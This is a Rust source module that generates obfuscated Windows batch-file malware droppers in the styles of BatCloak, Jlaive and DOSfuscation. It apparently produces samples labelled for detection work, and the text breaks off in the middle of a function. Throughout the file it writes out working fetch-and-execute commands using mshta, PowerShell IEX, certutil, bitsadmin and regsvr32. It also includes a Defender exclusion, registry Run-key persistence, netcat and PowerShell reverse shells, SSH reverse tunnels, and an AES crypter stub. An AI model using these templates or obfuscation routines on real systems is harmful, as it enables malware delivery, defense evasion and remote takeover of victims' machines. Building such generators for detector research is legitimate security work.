//! Batch files: what BatCloak, Jlaive and DOSfuscation make, loaders of remote access tools, lures.

use super::super::{base64, each, gzip, put, reversed, wide, xored};
use super::cipher::{aes_cbc, bytes};
use super::{Dice, Parts, Truth, agent, alphabet, cased, mark, mixed, places, plain, prose};
use std::fmt::Write;

/// A text of which variables are expanded when its line is read; lines before it go to `before`.
/// Those that use `!` need delayed expansion, which [`start`] turns on.
pub(super) fn hide(dice: &mut Dice, text: &str, before: &mut String) -> String {
    match dice.below(15) {
        0 => {
            let pieces = dice.pieces(text);
            let names: Vec<String> = pieces.iter().map(|_| mixed(dice, 6)).collect();
            for at in dice.order(pieces.len()) {
                let quote = dice.chance(50);
                let _ = if quote {
                    writeln!(before, "set \"{}={}\"", names[at], pieces[at])
                } else {
                    writeln!(before, "set {}={}", names[at], pieces[at])
                };
            }
            names.iter().map(|it| format!("%{it}%")).collect()
        }
        1 if plain(text) => {
            let letters = alphabet(dice).replace('=', "");
            let name = mixed(dice, 4);
            let _ = writeln!(before, "{} \"{name}={letters}\"", cased(dice, "set"));
            places(text, &letters).iter().map(|it| format!("%{name}:~{it},1%")).collect()
        }
        2 => {
            let name = mixed(dice, 5);
            let mark = mark(dice, text, &["#", "ZX", "_K_", "@", "{}", ";"]);
            let littered = dice.littered(text, &mark);
            let _ = writeln!(before, "set \"{name}={littered}\"");
            format!("%{name}:{mark}=%")
        }
        3 => {
            let name = mixed(dice, 5);
            let mut careted = String::new();
            for letter in text.chars() {
                if letter.is_ascii_alphabetic() && dice.chance(60) {
                    careted.push('^');
                }
                careted.push(letter);
            }
            let _ = writeln!(before, "s^e^t {name}={careted}");
            format!("%{name}%")
        }
        4 => littered(dice, text),
        5 => {
            // Each letter has a variable.
            let mut table: Vec<(char, String)> = Vec::new();
            for letter in text.chars() {
                if !table.iter().any(|it| it.0 == letter) {
                    table.push((letter, mixed(dice, 7)));
                }
            }
            for at in dice.order(table.len()) {
                let _ = writeln!(before, "set {}={}", table[at].1, table[at].0);
            }
            text.chars()
                .filter_map(|letter| table.iter().find(|it| it.0 == letter))
                .map(|it| format!("%{}%", it.1))
                .collect()
        }
        6 => {
            let name = mixed(dice, 5);
            let packed = base64(text.as_bytes());
            let _ = writeln!(
                before,
                "for /f \"delims=\" %%i in ('powershell -NoProfile -Command \"[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{packed}'))\"') do set \"{name}=%%i\""
            );
            format!("%{name}%")
        }
        7 if plain(text) => {
            let letters = alphabet(dice).replace('=', "");
            let (name, out) = (mixed(dice, 4), mixed(dice, 5));
            let list = super::listed(places(text, &letters), " ");
            let _ = writeln!(
                before,
                "set \"{name}={letters}\"\nset \"{out}=\"\nfor %%a in ({list}) do set \"{out}=!{out}!!{name}:~%%a,1!\""
            );
            format!("%{out}%")
        }
        8 => environment(dice, text),
        9 => {
            let (name, out) = (mixed(dice, 4), mixed(dice, 5));
            let _ = writeln!(
                before,
                "set {name}={}\nset {out}=\nfor /L %%A in ({},-1,0) do set {out}=!{out}!!{name}:~%%A,1!",
                reversed(text),
                text.len() - 1
            );
            format!("%{out}%")
        }
        10 => {
            let name = mixed(dice, 4);
            if text.contains("zqz") {
                return text.to_owned();
            }
            let (one, other) = (mark(dice, text, &["#", "ZX", "_K_", "@", "{}", ";"]), "zQz");
            let changed = text.replace("tp", other).replace('.', &one);
            let _ = writeln!(before, "set \"{name}={changed}\"\nset \"{name}=%{name}:{one}=.%\"");
            format!("%{name}:{other}=tp%")
        }
        11 => {
            let (name, file) = (mixed(dice, 4), dice.name());
            let _ = writeln!(
                before,
                "echo {} > \"%TEMP%\\{file}.b64\"\ncertutil -f -decode \"%TEMP%\\{file}.b64\" \"%TEMP%\\{file}.txt\" >nul\nset /p {name}=<\"%TEMP%\\{file}.txt\"\ndel \"%TEMP%\\{file}.b64\" \"%TEMP%\\{file}.txt\"",
                base64(text.as_bytes())
            );
            format!("%{name}%")
        }
        12 => {
            // Parts are cut out of a longer text.
            let (name, out) = (mixed(dice, 5), mixed(dice, 5));
            let (front, back) = (mixed(dice, 4), mixed(dice, 4));
            let _ = writeln!(
                before,
                "set {name}={front}{text}{back}\ncall set {out}=%%{name}:~{},{}%%",
                front.len(),
                text.len()
            );
            format!("%{out}%")
        }
        13 => {
            let out = mixed(dice, 6);
            let _ = writeln!(before, "set \"{out}=\"");
            for letter in text.bytes() {
                let _ =
                    writeln!(before, "cmd /c exit {letter}\nset \"{out}=!{out}!!=ExitCodeAscii!\"");
            }
            format!("%{out}%")
        }
        _ => {
            let (name, key) = (mixed(dice, 5), dice.key());
            let list = super::super::codes(xored(text, key), ",");
            let _ = writeln!(
                before,
                "for /f \"usebackq delims=\" %%x in (`powershell -nop -c \"-join(({list})|%%{{[char]($_ -bxor {key})}})\"`) do set {name}=%%x"
            );
            format!("%{name}%")
        }
    }
}

/// Variables that are not there, between the letters: they expand to nothing in a batch file.
fn littered(dice: &mut Dice, text: &str) -> String {
    let mut out = String::new();
    for letter in text.chars() {
        if dice.chance(55) {
            let _ = write!(out, "%{}%", mixed(dice, 5));
        }
        out.push(letter);
    }
    out
}

/// Letters out of variables that every Windows has.
fn environment(dice: &mut Dice, text: &str) -> String {
    let known = [
        ("ProgramFiles", "C:\\Program Files"),
        ("PUBLIC", "C:\\Users\\Public"),
        ("ALLUSERSPROFILE", "C:\\ProgramData"),
        ("CommonProgramFiles", "C:\\Program Files\\Common Files"),
    ];
    let mut out = String::new();
    for letter in text.chars() {
        let places: Vec<(&str, usize)> = known
            .iter()
            .flat_map(|(name, value)| {
                value
                    .char_indices()
                    .filter(|it| it.1 == letter)
                    .map(|it| (*name, it.0))
                    .collect::<Vec<_>>()
            })
            .collect();
        if places.is_empty() || dice.chance(25) {
            out.push(letter);
        } else {
            let (name, at) = places[dice.below(places.len())];
            let name = cased(dice, name);
            let _ = write!(out, "%{name}:~{at},1%");
        }
    }
    out
}

/// First lines; delayed expansion is on.
fn start(dice: &mut Dice) -> String {
    let mut out = String::from(dice.pick(&[
        "@echo off\n",
        "@ECHO OFF\n",
        "@e%qwz%c%xkj%ho o%vvq%ff\n",
        "@echo off & cls\n",
    ]));
    out.push_str(dice.pick(&[
        "setlocal EnableDelayedExpansion\n",
        "SETLOCAL ENABLEDELAYEDEXPANSION ENABLEEXTENSIONS\n",
    ]));
    let lines = [
        "chcp 65001 >nul\n",
        "title Windows Update Assistant\nmode con cols=15 lines=1\n",
        "net session >nul 2>&1\nif %errorlevel% neq 0 (\n    powershell -Command \"Start-Process -Verb RunAs -FilePath '%~f0'\" >nul 2>&1\n)\n",
        "powershell -Command \"Add-MpPreference -ExclusionPath 'C:\\'\" >nul 2>&1\n",
        "timeout /t 2 /nobreak >nul\n",
        "cd /d \"%TEMP%\"\n",
        "if not \"%1\"==\"min\" start \"\" /min cmd /c \"%~f0\" min & if not \"%1\"==\"min\" exit /b\n",
        "reg add \"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\" /v OneDriveSync /t REG_SZ /d \"%~f0\" /f >nul\n",
    ];
    for line in lines {
        if dice.chance(20) {
            out.push_str(line);
        }
    }
    for _ in 0..dice.below(4) {
        let (mark, text) = (dice.pick(&["::", "rem", "REM"]), prose(dice, 4));
        let _ = writeln!(out, "{mark} {text}");
    }
    out
}

/// The URL, hidden, in most of all cases.
fn address(dice: &mut Dice, url: &str, out: &mut String) -> String {
    if !dice.chance(75) {
        return url.to_owned();
    }
    let word = hide(dice, url, out);
    if dice.chance(40) {
        let name = mixed(dice, 6);
        let _ = writeln!(out, "set \"{name}={word}\"");
        format!("%{name}%")
    } else {
        word
    }
}

/// A dropper of which `truth` tells what it contacts.
pub(super) fn dropper(dice: &mut Dice, truth: &mut Truth) -> String {
    match dice.below(16) {
        0 => pasted(dice, truth),
        1 => through_powershell(dice, truth),
        2 | 3 => downloads(dice, truth),
        4 => living_off_the_land(dice, truth),
        5 => python_runtime(dice, truth),
        6 => written_script(dice, truth),
        7 => own_lines(dice, truth),
        8 => crypter(dice, truth),
        9 | 10 => cloaked(dice, truth),
        11 => for_coded(dice, truth),
        12 => two_languages(dice, truth),
        13 => tunnel(dice, truth),
        14 => share(dice, truth),
        _ => many(dice, truth),
    }
}

/// One line, as a lure has it pasted or a shortcut has it.
fn pasted(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &["", ".hta", ".txt", ".mp3", ".ps1"]);
    let (name, id) = (mixed(dice, 4), 1000 + dice.below(8999));
    let encoded = base64(&wide(&format!("IEX(New-Object Net.WebClient).DownloadString('{url}')")));
    let form = dice.pick(&[
        "mshta @URL@ # I am not a robot - reCAPTCHA Verification ID: @ID@\n",
        "cmd /c start /min mshta.exe @URL@ & rem Cloudflare Ray @ID@\n",
        "cmd.exe /c powershell -w h -nop -c \"$@NAME@='@URL@';iex (iwr $@NAME@ -useb)\"\n",
        "conhost --headless cmd /c powershell -nop -w hidden -enc @ENCODED@\n",
        "forfiles /p c:\\windows /m notepad.exe /c \"powershell . mshta @URL@\"\n",
        "cmd /v:on /c \"set @NAME@=@URL@&& mshta !@NAME@!\"\n",
        "pcalua.exe -a mshta.exe -c @URL@\n",
        "ssh -o ProxyCommand=\"powershell powershell -Command 'mshta.exe @URL@'\" .\n",
        "cmd /c curl -s -L -o %TEMP%\\@NAME@.bat @URL@ && %TEMP%\\@NAME@.bat & echo \"Verification @ID@\"\n",
        "msiexec /i @URL@ /qn & rem Google Meet driver @ID@\n",
        "cmd /c \"curl -sL @URL@ | cmd\"\n",
        "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";document.write();GetObject(\"script:@URL@\")\n",
    ]);
    put(form, &[("URL", &url), ("NAME", &name), ("ID", &id.to_string()), ("ENCODED", &encoded)])
}

/// The work is PowerShell's.
fn through_powershell(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut out = start(dice);
    let url = truth.url(dice, &[".exe", "", ".ps1", ".zip"]);
    let word = address(dice, &url, &mut out);
    let file = dice.name();
    let shell = if dice.chance(40) {
        hide(dice, "powershell", &mut out)
    } else {
        cased(dice, "powershell")
    };
    let form = dice.pick(&[
        "@SHELL@ -Command \"Invoke-WebRequest -Uri '@URL@' -OutFile '%TEMP%\\@FILE@.exe'\" && start \"\" \"%TEMP%\\@FILE@.exe\"\n",
        "@SHELL@ -w hidden -c \"(New-Object Net.WebClient).DownloadFile('@URL@', $env:TEMP + '\\@FILE@.exe'); Start-Process ($env:TEMP + '\\@FILE@.exe')\"\n",
        "@SHELL@ -NoP -NonI -Exec Bypass -W Hidden -C \"IEX ((New-Object Net.WebClient).DownloadString('@URL@'))\"\n",
        "set \"@FILE@=%APPDATA%\\Microsoft\\@FILE@.ps1\"\n@SHELL@ -c \"[Net.ServicePointManager]::SecurityProtocol = 'Tls12'; irm '@URL@' -OutFile '%@FILE@%'\"\n@SHELL@ -ep bypass -f \"%@FILE@%\"\ndel \"%@FILE@%\"\n",
        "start /b \"\" @SHELL@ -nop -c \"$u='@URL@'; $d=(New-Object Net.WebClient).DownloadData($u); [Reflection.Assembly]::Load($d).EntryPoint.Invoke($null,@(,[string[]]@()))\"\nexit\n",
    ]);
    out + &put(form, &[("SHELL", &shell), ("URL", &word), ("FILE", &file)])
}

/// curl, certutil, bitsadmin.
fn downloads(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut out = start(dice);
    let url = truth.url(dice, &[".exe", ".dll", ".zip", ""]);
    let word = address(dice, &url, &mut out);
    let file = dice.name();
    let form = dice.pick(&[
        "curl -s -k -L -o \"%TEMP%\\@FILE@.exe\" \"@URL@\"\nif exist \"%TEMP%\\@FILE@.exe\" start \"\" /b \"%TEMP%\\@FILE@.exe\"\n",
        "curl --ssl-no-revoke -A \"@AGENT@\" --output %PUBLIC%\\@FILE@.dll @URL@\nrundll32 %PUBLIC%\\@FILE@.dll,DllRegisterServer\n",
        "c^e^rt^ut^il -urlcache -split -f @URL@ %TEMP%\\@FILE@.exe > nul\n%TEMP%\\@FILE@.exe\n",
        "bitsadmin /transfer @FILE@ /download /priority high @URL@ \"%TEMP%\\@FILE@.exe\" >nul\nstart \"\" \"%TEMP%\\@FILE@.exe\"\n",
        "bitsadmin /create @FILE@ >nul\nbitsadmin /addfile @FILE@ @URL@ %APPDATA%\\@FILE@.exe >nul\nbitsadmin /resume @FILE@ >nul\n:wait\ntimeout /t 3 >nul\nif not exist %APPDATA%\\@FILE@.exe goto wait\nbitsadmin /complete @FILE@ >nul\nstart %APPDATA%\\@FILE@.exe\n",
        "set \"dst=%LOCALAPPDATA%\\@FILE@\"\nmd \"%dst%\" 2>nul\ncurl -sLo \"%dst%\\a.zip\" @URL@\ntar -xf \"%dst%\\a.zip\" -C \"%dst%\"\nfor %%f in (\"%dst%\\*.exe\") do start \"\" \"%%f\"\nschtasks /create /sc minute /mo 5 /tn \"@FILE@\" /tr \"%dst%\\a.exe\" /f >nul\n",
        "copy /y %windir%\\system32\\curl.exe %TEMP%\\@FILE@c.exe >nul\n%TEMP%\\@FILE@c.exe -o %TEMP%\\@FILE@.js @URL@\nwscript //B //E:jscript %TEMP%\\@FILE@.js\n",
        "call :get \"@URL@\" \"%TEMP%\\@FILE@.exe\"\nstart \"\" \"%TEMP%\\@FILE@.exe\"\ngoto :eof\n:get\ncurl -fsL \"%~1\" -o \"%~2\" || certutil -urlcache -f \"%~1\" \"%~2\" >nul\nexit /b\n",
    ]);
    out + &put(form, &[("FILE", &file), ("URL", &word), ("AGENT", agent(dice))])
}

/// Programs of Windows that fetch and run in one.
fn living_off_the_land(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut out = start(dice);
    let url = truth.url(dice, &[".sct", "", ".msi", ".xsl", ".hta"]);
    let word = address(dice, &url, &mut out);
    let form = dice.pick(&[
        "regsvr32 /s /n /u /i:@URL@ scrobj.dll\n",
        "start /min \"\" mshta @URL@\n",
        "msiexec /q /i @URL@\n",
        "wmic os get /format:\"@URL@\"\n",
        "mshta vbscript:Close(Execute(\"GetObject(\"\"script:@URL@\"\")\"))\n",
        "start \"\" /b rundll32 url.dll,OpenURL @URL@\n",
        "m^s^hta.e^xe @URL@\n",
        "wmic process call create \"mshta @URL@\" >nul\n",
        "schtasks /create /f /tn Upd /sc once /st 23:59 /tr \"mshta @URL@\" >nul\nschtasks /run /tn Upd >nul\n",
    ]);
    out + &put(form, &[("URL", &word)])
}

/// Stealers in Python bring their interpreter.
fn python_runtime(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut out = start(dice);
    let (zip, code) = (truth.url(dice, &[".zip"]), truth.url(dice, &[".txt", ".py", ""]));
    let zip = address(dice, &zip, &mut out);
    let code = address(dice, &code, &mut out);
    let file = dice.name();
    let form = dice.pick(&[
        "if not exist \"%PUBLIC%\\@FILE@\" mkdir \"%PUBLIC%\\@FILE@\"\npowershell -w hidden -c \"[Net.ServicePointManager]::SecurityProtocol=[Net.SecurityProtocolType]::Tls12; (New-Object -TypeName System.Net.WebClient).DownloadFile('@ZIP@', 'C:\\Users\\Public\\@FILE@.zip')\"\npowershell -w hidden -c \"Add-Type -AssemblyName System.IO.Compression.FileSystem; [System.IO.Compression.ZipFile]::ExtractToDirectory('C:/Users/Public/@FILE@.zip', 'C:/Users/Public/@FILE@')\"\nstart /min C:\\Users\\Public\\@FILE@\\python -c \"import urllib.request;exec(urllib.request.urlopen('@CODE@').read().decode('utf-8'))\"\n",
        "curl -L -o %TEMP%\\@FILE@.zip @ZIP@\ntar -xf %TEMP%\\@FILE@.zip -C %TEMP%\ncurl -L -o %TEMP%\\main.py @CODE@\n\"%TEMP%\\python\\pythonw.exe\" \"%TEMP%\\main.py\"\n",
        "curl -s @ZIP@ -o \"%APPDATA%\\@FILE@.zip\" && powershell Expand-Archive -Force '%APPDATA%\\@FILE@.zip' '%APPDATA%\\@FILE@'\n\"%APPDATA%\\@FILE@\\python.exe\" -c \"exec(__import__('urllib.request').request.urlopen('@CODE@').read())\"\n",
    ]);
    out + &put(form, &[("FILE", &file), ("ZIP", &zip), ("CODE", &code)])
}

/// A script is written line by line, then run.
fn written_script(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut out = start(dice);
    let url = truth.url(dice, &[".exe", "", ".dat"]);
    let word = address(dice, &url, &mut out);
    let file = dice.name();
    let form = dice.pick(&[
        "echo Set x = CreateObject(\"MSXML2.XMLHTTP\") > \"%TEMP%\\@FILE@.vbs\"\necho x.Open \"GET\", \"@URL@\", False >> \"%TEMP%\\@FILE@.vbs\"\necho x.Send >> \"%TEMP%\\@FILE@.vbs\"\necho Set s = CreateObject(\"ADODB.Stream\") >> \"%TEMP%\\@FILE@.vbs\"\necho s.Type = 1 : s.Open : s.Write x.responseBody >> \"%TEMP%\\@FILE@.vbs\"\necho s.SaveToFile \"%TEMP%\\@FILE@.exe\", 2 >> \"%TEMP%\\@FILE@.vbs\"\ncscript //nologo \"%TEMP%\\@FILE@.vbs\"\nstart \"\" \"%TEMP%\\@FILE@.exe\"\ndel \"%TEMP%\\@FILE@.vbs\"\n",
        "(\necho $u = '@URL@'\necho $p = Join-Path $env:TEMP '@FILE@.exe'\necho Invoke-WebRequest -Uri $u -OutFile $p -UseBasicParsing\necho Start-Process $p\n) > \"%TEMP%\\@FILE@.ps1\"\npowershell -ExecutionPolicy Bypass -WindowStyle Hidden -File \"%TEMP%\\@FILE@.ps1\"\n",
        ">\"%TEMP%\\@FILE@.js\" echo var h=new ActiveXObject('WinHttp.WinHttpRequest.5.1');h.Open('GET','@URL@',false);h.Send();\n>>\"%TEMP%\\@FILE@.js\" echo new Function(h.ResponseText)();\nwscript //e:jscript \"%TEMP%\\@FILE@.js\"\n",
        "echo $c=New-Object Net.WebClient;$c.DownloadString('@URL@')^|iex>%TEMP%\\@FILE@.ps1\npowershell -w hidden -ep bypass %TEMP%\\@FILE@.ps1\n",
    ]);
    out + &put(form, &[("FILE", &file), ("URL", &word)])
}

/// A line of PowerShell that fetches and runs.
fn cradle(dice: &mut Dice, url: &str) -> String {
    let name = mixed(dice, 5);
    put(
        dice.pick(&[
            "$@NAME@='@URL@';iex (New-Object Net.WebClient).DownloadString($@NAME@)",
            "$@NAME@ = New-Object System.Net.WebClient\n$b = $@NAME@.DownloadData('@URL@')\n[System.Reflection.Assembly]::Load($b).EntryPoint.Invoke($null, $null)\n",
            "[Net.ServicePointManager]::SecurityProtocol = 3072\nInvoke-WebRequest '@URL@' -OutFile \"$env:TEMP\\@NAME@.exe\"\nStart-Process \"$env:TEMP\\@NAME@.exe\"\n",
            "iex (irm '@URL@')",
        ]),
        &[("NAME", &name), ("URL", url)],
    )
}

/// The file reads a line of itself, as Jlaive's stubs do.
fn own_lines(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut out = start(dice);
    let url = truth.url(dice, &["", ".ps1", ".bin"]);
    let inner = cradle(dice, &url);
    let mark = mixed(dice, 6);
    let file = dice.name();
    match dice.below(3) {
        0 => {
            let _ = writeln!(
                out,
                "powershell -nop -w hidden -c \"$l=(Get-Content -LiteralPath '%~f0' | Where-Object {{ $_.StartsWith(':: {mark}') }}).Substring({}); iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($l)))\"\nexit /b",
                4 + mark.len()
            );
            let _ = writeln!(out, ":: {mark} {}", base64(inner.as_bytes()));
        }
        1 => {
            let _ = writeln!(
                out,
                "powershell -ep bypass -c \"$t=[IO.File]::ReadAllText('%~f0');$i=$t.LastIndexOf('{mark}:');$d=[Convert]::FromBase64String($t.Substring($i+{}).Trim());$m=New-Object IO.MemoryStream(,$d);$g=New-Object IO.Compression.GZipStream($m,[IO.Compression.CompressionMode]::Decompress);$r=New-Object IO.StreamReader($g);iex $r.ReadToEnd()\"\nexit",
                mark.len() + 1
            );
            let _ = writeln!(out, "{mark}:{}", base64(&gzip(inner.as_bytes())));
        }
        _ => {
            let _ = writeln!(
                out,
                "certutil -f -decode \"%~f0\" \"%TEMP%\\{file}.ps1\" >nul\npowershell -ep bypass -w hidden -f \"%TEMP%\\{file}.ps1\"\nexit /b"
            );
            let lines = super::lines(&base64(inner.as_bytes()), 64).join("\n");
            let _ =
                writeln!(out, "-----BEGIN CERTIFICATE-----\n{lines}\n-----END CERTIFICATE-----");
        }
    }
    out
}

/// AES and gzip, as the crypters of remote access tools have them, but for a script.
fn crypter(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &["", ".ps1", ".txt"]);
    let inner = cradle(dice, &url);
    let (key, begin) = (bytes(dice, 32), bytes(dice, 16));
    let packed = base64(&aes_cbc(&gzip(inner.as_bytes()), &key, &begin));
    let decoder = put(
        "$a=[System.Security.Cryptography.Aes]::Create();$a.Mode=[System.Security.Cryptography.CipherMode]::CBC;$a.Padding=[System.Security.Cryptography.PaddingMode]::PKCS7;$a.Key=[System.Convert]::FromBase64String('@KEY@');$a.IV=[System.Convert]::FromBase64String('@BEGIN@');$p=$a.CreateDecryptor();$b=[System.Convert]::FromBase64String('@PACKED@');$q=$p.TransformFinalBlock($b,0,$b.Length);$p.Dispose();$a.Dispose();$m=New-Object System.IO.MemoryStream(,$q);$o=New-Object System.IO.MemoryStream;$g=New-Object System.IO.Compression.GZipStream($m,[IO.Compression.CompressionMode]::Decompress);$g.CopyTo($o);$g.Dispose();$m.Dispose();$o.Dispose();iex ([System.Text.Encoding]::UTF8.GetString($o.ToArray()))",
        &[("KEY", &base64(&key)), ("BEGIN", &base64(&begin)), ("PACKED", &packed)],
    );
    let mut out = start(dice);
    match dice.below(3) {
        0 => {
            let _ = writeln!(out, "powershell -w hidden -nop -c \"{decoder}\"");
        }
        1 => {
            let _ = writeln!(
                out,
                "powershell.exe -NoProfile -EncodedCommand {}",
                base64(&wide(&decoder))
            );
        }
        _ => {
            // In pieces of variables, which are set in any order.
            let pieces = super::lines(&decoder, 90);
            let names: Vec<String> = pieces.iter().map(|_| mixed(dice, 7)).collect();
            for at in dice.order(pieces.len()) {
                let _ = writeln!(out, "set \"{}={}\"", names[at], pieces[at]);
            }
            let joined: String = names.iter().map(|it| format!("%{it}%")).collect();
            let _ = writeln!(out, "powershell -nop -w hidden -c \"{joined}\"");
        }
    }
    out
}

/// BatCloak: every line is made of variables.
fn cloaked(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &[".exe", "", ".bat"]);
    let file = dice.name();
    let script = put(
        dice.pick(&[
            "curl -s -o %TEMP%\\@FILE@.exe @URL@\nstart %TEMP%\\@FILE@.exe\n",
            "powershell -w hidden -c \"iwr '@URL@' -OutFile $env:TEMP\\@FILE@.exe\"\nstart %TEMP%\\@FILE@.exe\n",
            "cd %APPDATA%\ncertutil -urlcache -split -f @URL@ @FILE@.exe\n@FILE@.exe\n",
            "mshta @URL@\n",
        ]),
        &[("FILE", &file), ("URL", &url)],
    );
    let mut out = String::from("@echo off\n");
    match dice.below(3) {
        0 => {
            // One name for `set `, the others for pieces.
            let setter = mixed(dice, 8);
            let _ = writeln!(out, "set \"{setter}=set \"");
            for line in script.lines() {
                let mut shown = String::new();
                let mut defined = Vec::new();
                for piece in pieces_of(dice, line) {
                    let name = mixed(dice, 9);
                    let _ = write!(shown, "%{name}%");
                    defined.push((name, piece));
                }
                for at in dice.order(defined.len()) {
                    let _ = writeln!(out, "%{setter}%\"{}={}\"", defined[at].0, defined[at].1);
                }
                // Variables within values are expanded when they are set.
                let _ = writeln!(out, "{shown}");
            }
        }
        1 => {
            for line in script.lines() {
                let mut within = false;
                let mut shown = String::new();
                for letter in line.chars() {
                    if letter == '%' {
                        within = !within;
                    } else if !within && dice.chance(50) {
                        let _ = write!(shown, "%{}%", mixed(dice, 6));
                    }
                    shown.push(letter);
                }
                let _ = writeln!(out, "{shown}");
            }
        }
        _ => {
            let letters = dice
                .shuffled("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789 :/.-\\");
            let name = mixed(dice, 3);
            let _ = writeln!(out, "set \"{name}={letters}\"\ncls");
            for line in script.lines() {
                let mut within = false;
                for letter in line.chars() {
                    if letter == '%' {
                        within = !within;
                    }
                    match letters.find(letter) {
                        Some(at) if !within => {
                            let _ = write!(out, "%{name}:~{at},1%");
                        }
                        _ => out.push(letter),
                    }
                }
                out.push('\n');
            }
        }
    }
    out
}

/// A line in pieces of few letters; a variable's name is not torn.
fn pieces_of(dice: &mut Dice, line: &str) -> Vec<String> {
    let mut pieces = vec![String::new()];
    let mut within = false;
    let mut left = 1 + dice.below(4);
    for letter in line.chars() {
        if left == 0 && !within {
            pieces.push(String::new());
            left = 1 + dice.below(4);
        }
        if letter == '%' {
            within = !within;
        }
        if let Some(last) = pieces.last_mut() {
            last.push(letter);
        }
        left = left.saturating_sub(1);
    }
    pieces
}

/// DOSfuscation: a command is put together of indexes, or backwards, and called.
fn for_coded(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &["", ".hta", ".ps1"]);
    let command = put(
        dice.pick(&[
            "mshta @URL@",
            "powershell -w hidden iex(irm @URL@)",
            "msiexec /q /i @URL@",
            "powershell -nop -c iwr @URL@ -OutFile x.exe;.\\x.exe",
        ]),
        &[("URL", &url)],
    );
    let (name, out) = (mixed(dice, 3), mixed(dice, 3));
    match dice.below(3) {
        0 => {
            let mut letters = String::new();
            for letter in command.chars() {
                if !letters.contains(letter) {
                    letters.push(letter);
                }
            }
            // A blank at an end would be lost on the way.
            let letters = format!("{}x", dice.shuffled(&letters));
            let list = super::listed(places(&command, &letters), " ");
            format!(
                "cmd /V:ON /C \"set {name}={letters}&&for %%A in ({list} 1337) do set {out}=!{out}!!{name}:~%%A,1!&&if %%A==1337 call %%{out}:~-{}%%\"\n",
                command.len()
            )
        }
        1 => format!(
            "cmd /V:ON /C \"set {name}={}&&for /L %%A in ({},-1,0) do set {out}=!{out}!!{name}:~%%A,1!&&if %%A==0 call %%{out}:~-{}%%\"\n",
            reversed(&command),
            command.len() - 1,
            command.len()
        ),
        _ => {
            let careted: String = command
                .chars()
                .map(|it| {
                    if it.is_ascii_alphabetic() && dice.chance(60) {
                        format!("^{it}")
                    } else {
                        it.to_string()
                    }
                })
                .collect();
            format!("@echo off\nset {name}={careted}\n,;,cMd.Exe,;,/C,;,%{name}%\n")
        }
    }
}

/// JScript behind a comment that batch reads.
fn two_languages(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &["", ".exe", ".js"]);
    let codes = each(&url, ",", |it| it.to_string());
    let file = dice.name();
    let word =
        if dice.chance(50) { format!("'{url}'") } else { format!("String.fromCharCode({codes})") };
    match dice.below(3) {
        0 => put(
            "@if (@X)==(@Y) @end /*\n@echo off\ncscript //E:JScript //nologo \"%~f0\"\nexit /b\n*/\nvar h = new ActiveXObject('MSXML2.XMLHTTP');\nh.open('GET', @URL@, false);\nh.send();\nvar s = new ActiveXObject('ADODB.Stream');\ns.Type = 1;\ns.Open();\ns.Write(h.responseBody);\nvar p = new ActiveXObject('WScript.Shell').ExpandEnvironmentStrings('%TEMP%') + '\\\\@FILE@.exe';\ns.SaveToFile(p, 2);\nnew ActiveXObject('WScript.Shell').Run(p, 0);\n",
            &[("URL", &word), ("FILE", &file)],
        ),
        1 => put(
            "<# :\n@echo off\npowershell -nop -ep bypass -c \"iex ((Get-Content '%~f0') -join [char]10)\"\nexit /b\n#>\n$@FILE@ = '@PLAIN@'\n$p = Join-Path $env:TEMP '@FILE@.exe'\n(New-Object Net.WebClient).DownloadFile($@FILE@, $p)\nStart-Process $p\n",
            &[("PLAIN", &url), ("FILE", &file)],
        ),
        _ => put(
            "@echo off & setlocal\nset \"@FILE@=@PLAIN@\"\n(echo ^<html^>^<script language=\"vbscript\"^>\necho Set o = CreateObject(\"WScript.Shell\"^)\necho o.Run \"powershell -w hidden -c iwr %@FILE@% -OutFile $env:TEMP\\a.exe; start $env:TEMP\\a.exe\", 0\necho self.close\necho ^</script^>^</html^>) > \"%TEMP%\\@FILE@.hta\"\nstart \"\" mshta \"%TEMP%\\@FILE@.hta\"\n",
            &[("PLAIN", &url), ("FILE", &file)],
        ),
    }
}

/// A way in is kept open.
fn tunnel(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut out = start(dice);
    let (host, port) = truth.endpoint(dice);
    let host = address(dice, &host, &mut out);
    let url = truth.url(dice, &[".exe", ""]);
    let word = address(dice, &url, &mut out);
    let (file, port) = (dice.name(), port.to_string());
    let form = dice.pick(&[
        "curl -s -o %TEMP%\\@FILE@.exe @URL@\n:again\n%TEMP%\\@FILE@.exe @HOST@ @PORT@ -e cmd.exe\ntimeout /t 30 /nobreak >nul\ngoto again\n",
        "certutil -urlcache -f @URL@ %PUBLIC%\\nc64.exe >nul\nstart /b %PUBLIC%\\nc64.exe -e cmd @HOST@ @PORT@\n",
        "curl -sk @URL@ -o %APPDATA%\\id_@FILE@\nstart /min ssh -i %APPDATA%\\id_@FILE@ -o StrictHostKeyChecking=no -o ServerAliveInterval=60 -N -R 0 -p @PORT@ sshuser@@HOST@\n",
        "powershell -c \"iwr '@URL@' -OutFile $env:TEMP\\@FILE@.exe\"\nset RHOST=@HOST@\nset RPORT=@PORT@\npowershell -nop -w hidden -c \"$c=New-Object Net.Sockets.TCPClient('%RHOST%',%RPORT%);$s=$c.GetStream();[byte[]]$b=0..65535|%%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=([text.encoding]::ASCII).GetString($b,0,$i);$r=(iex $d 2>&1|Out-String);$x=([text.encoding]::ASCII).GetBytes($r);$s.Write($x,0,$x.Length)}\"\n",
    ]);
    out + &put(form, &[("FILE", &file), ("URL", &word), ("HOST", &host), ("PORT", &port)])
}

/// A share over WebDAV.
fn share(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut out = start(dice);
